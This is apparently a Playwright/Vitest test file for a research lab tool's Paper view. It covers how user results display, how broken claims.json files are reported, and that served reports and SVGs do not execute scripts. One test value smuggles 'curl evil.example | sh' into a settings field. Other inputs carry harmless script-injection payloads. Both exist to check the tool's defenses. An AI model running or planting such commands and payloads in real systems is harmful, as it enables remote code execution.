// The lab's Paper view with results of one's own (`cause lab --results`), in Chromium.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { serveLab } from "../../packages/cli/src/lab/serve.ts";
import { sharedChromium } from "../browser/chromium.ts";
import { published } from "./paper-page.ts";

describe("results of one's own", () => {
  const folder = mkdtempSync(join(tmpdir(), "cause-own-"));
  const write = (text: string) => writeFileSync(join(folder, "claims.json"), text);
  const settings = { runs: 200, seed: "mine" };
  const [regret] = published.experiments.filter(({ id }) => id === "regret");
  const figures = regret.figures.map((figure) => ({
    ...figure,
    computations: figure.computations.map((one) => ({ ...one, config: { ...one.config, ...settings } })),
  }));
  const own = {
    ...published,
    settings,
    all: false,
    experiments: [{ ...regret, figures }],
    claims: published.claims.filter(({ id }) => id === "sdom-tie"),
  };
  let browser: Browser;
  let served: Awaited<ReturnType<typeof serveLab>>;
  beforeAll(async () => {
    mkdirSync(join(folder, "figures"));
    write(JSON.stringify(own));
    [browser, served] = await Promise.all([sharedChromium(), serveLab({ port: 0, results: folder })]);
  });
  afterAll(() => {
    served?.server.close();
    rmSync(folder, { recursive: true });
  });

  /** What is missing the browser complains of, so there is no listening to its console. */
  async function look(see: (page: Page) => Promise<void>): Promise<void> {
    const page = await browser.newPage();
    const failures: Error[] = [];
    page.on("pageerror", (error) => failures.push(error));
    await page.goto(`${served.address}#/paper`);
    await see(page);
    expect(failures).toEqual([]);
    await page.close();
  }

  test("are shown, with their runs and seed; a figure that is not there is told of", async () => {
    await look(async (page) => {
      await page.getByText("Of the paper's 1 finding, 1 is not decided.").waitFor();
      await page.getByText("The results hold no figures/regret.svg.").waitFor();
      const [href] = await page
        .locator("#figure-regret li a")
        .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
      expect(href).toContain("runs=200&seed=mine");
      await page.getByText("The same outside the lab").click();
      expect(await page.getByLabel("Command", { exact: true }).textContent()).toBe(
        "npx cause reproduce regret --runs 200 --seed mine",
      );
      await page.getByRole("button", { name: "SVG", exact: true }).click();
      await page.getByText("SVG could not be made: the figure regret is not loaded").waitFor();
    });
  });

  test("that cannot be shown are told of, with what to do; mended, they are shown", async () => {
    const { experiments, ...claimsAlone } = own;
    write("<!doctype html>");
    await look(async (page) => {
      const alert = page.getByRole("alert");
      await alert.getByText("The results are not JSON").waitFor();
      await alert.getByText("Run npx cause reproduce again into that folder").waitFor();
      expect(await page.getByRole("heading", { level: 1 }).textContent()).toContain("claims");
      const again = () => page.getByRole("button", { name: "Try again" }).click();
      for (const [text, message] of [
        [JSON.stringify(claimsAlone), "claims.json does not hold experiments."],
        ["{}", "claims.json does not hold claims."],
        [
          JSON.stringify({ ...own, settings: { ...own.settings, runs: "1; curl evil.example | sh #" } }),
          "claims.json cannot be read: its settings are not those of a reproduction.",
        ],
      ]) {
        write(text);
        await again();
        await alert.getByText(message).waitFor();
        await alert.getByText("Run npx cause reproduce again into that folder").waitFor();
      }
      rmSync(join(folder, "claims.json"));
      await again();
      await alert.getByText("There are no results: ./paper/claims.json answers 404.").waitFor();
      await alert.getByText("npx cause lab --results results").waitFor();
      write(JSON.stringify(own));
      await again();
      await page.getByText("1 of the paper’s 1 claim shown").waitFor();
    });
  });

  test("have a report that can be read there; of somebody else's, no script runs", async () => {
    const styled = '<style>h1 { color: rgb(1, 2, 3) }</style><h1>Report</h1><p style="color: rgb(4, 5, 6)">Text</p>';
    const scripts = "<script>document.title = 'ran'</script><script src='/paper/own.js'></script>";
    writeFileSync(
      join(folder, "report.html"),
      `<!doctype html><title>calm</title>${styled}${scripts}<img src=x onerror="document.title = 'ran'">`,
    );
    writeFileSync(join(folder, "own.js"), "document.title = 'ran'");
    writeFileSync(
      join(folder, "figures/own.svg"),
      `<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.id = "ran"</script></svg>`,
    );
    const page = await browser.newPage();
    await page.goto(`${served.address}paper/report.html`, { waitUntil: "networkidle" });
    const color = (name: string) => page.locator(name).evaluate((element) => getComputedStyle(element).color);
    expect([await page.title(), await color("h1"), await color("p")]).toEqual(["calm", "rgb(1, 2, 3)", "rgb(4, 5, 6)"]);
    await page.goto(`${served.address}paper/figures/own.svg`);
    expect(await page.evaluate(() => document.documentElement.id)).toBe("");
    await page.close();
  });
});
